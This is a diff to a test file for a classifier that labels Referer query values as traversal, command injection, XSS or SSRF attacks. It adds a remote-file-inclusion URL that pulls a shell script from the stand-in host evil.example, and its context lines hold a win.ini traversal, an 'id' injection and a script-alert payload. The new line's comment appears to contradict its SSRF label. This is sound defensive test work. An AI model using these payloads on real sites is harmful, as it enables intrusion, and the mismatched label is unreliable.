@@ -444,6 +444,8 @@ def _with_referer(referer: str) -> list[tuple[str, str]]:
         ("https://shop.example/list?a=1&q=..%2F..%2F..%2Fwindows%2Fwin.ini", Category.TRAVERSAL),
         ("https://shop.example/list?q=%26id", Category.CMDI),
         ("https://shop.example/list?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", Category.XSS),
+        # remote file inclusion is kept there (an include's script URL cut with "?"), not SSRF
+        ("https://shop.example/list?page=http%3A%2F%2Fevil.example%2Fshell.txt%3F", Category.SSRF),
     ],
 )
 def test_referer_query_values_are_read_as_query_values(referer: str, category: Category) -> None:
@@ -459,6 +461,7 @@ def test_referer_query_values_are_read_as_query_values(referer: str, category: C
         "https://shop.example/search?q=tom+%26+jerry&page=2",
         "https://shop.example/go?next=http%3A%2F%2F127.0.0.1%3A3000%2Fcallback",  # no SSRF in a Referer
         "https://shop.example/a/../b?x=1",
+        "https://shop.example/go?next=https%3A%2F%2Fpartner.example%2Fdocs%2Freadme.txt",
     ],
 )
 def test_ordinary_referer_queries_pass(referer: str) -> None:
